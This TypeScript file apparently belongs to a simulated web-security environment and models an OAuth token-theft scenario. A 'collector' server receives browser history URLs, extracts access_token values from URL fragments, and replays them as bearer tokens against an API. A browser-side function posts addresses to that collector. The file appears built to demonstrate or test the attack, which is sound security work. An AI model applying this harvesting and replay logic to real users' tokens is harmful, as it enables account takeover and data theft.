import { appPage } from '../../actors/app-pages'
import { readJsonObject } from '../../core/json'
import type { Handler } from '../../network/server'
import type { World } from '../../run/world'
import type { ActorId } from '../../trace/event'
import { API_URL, COLLECTOR, ID } from './cast'

/** What came of an address that somebody else has read. */
export interface Loot {
  /** The access token in it; undefined: there was none. */
  readonly token: string | undefined
  /** What the API has answered to it; undefined when it refused. */
  readonly rows: unknown
}

/** A server that addresses are sent to, and which shows every access token in them to the API, as any program can. */
export function createCollector(world: World): {
  readonly handler: Handler
  loot(): Loot | undefined
} {
  let loot: Loot | undefined
  return {
    loot: () => loot,
    handler: async ({ method, body }, { cause }) => {
      if (method !== 'POST') return appPage(200, welcome(world))
      const tokens = body.split('\n').flatMap((line) => {
        const token =
          URL.canParse(line) && new URLSearchParams(new URL(line).hash.slice(1)).get('access_token')
        return token ? [token] : []
      })
      const token = tokens.at(-1)
      loot = { token, rows: token && (await call(world, token, cause)) }
      return { status: 204, headers: [], body: '' }
    },
  }
}

/** RFC 6750 section 1.2: whoever has a bearer token can use it; who that is, nobody asks. */
async function call({ network }: World, token: string, cause: number): Promise<unknown> {
  const headers = [
    ['Host', new URL(API_URL).host],
    ['Authorization', `Bearer ${token}`],
  ] as const
  const request = { method: 'GET', url: API_URL, headers, body: '' }
  const { response } = await network.send(ID.collector, 'back-channel', request, cause)
  return response?.status === 200 ? readJsonObject(response.body) : undefined
}

const welcome = (world: World) =>
  ({
    kind: 'app',
    appName: world.called(ID.collector),
    state: 'welcome',
    heading: 'Thank you',
    lines: ['This page has moved.'],
  }) as const

/** Something in the browser sends addresses home. @returns the event it ends with */
export async function report(
  { network }: World,
  from: ActorId,
  addresses: readonly string[],
  cause: number,
): Promise<number> {
  const headers = [
    ['Host', new URL(COLLECTOR).host],
    ['Content-Type', 'text/plain'],
  ] as const
  const request = { method: 'POST', url: `${COLLECTOR}/addresses`, headers, body: addresses.join('\n') }
  return (await network.send(from, 'fetch', request, cause)).seq
}

/** The history of a browser: every address that it has shown a page of, with what stands behind the #. */
export function historyOf({ log }: World, browser: ActorId): readonly string[] {
  return log.events.flatMap((event) =>
    event.type === 'page-shown' && event.actor === browser && !event.frame ? [event.url] : [],
  )
}
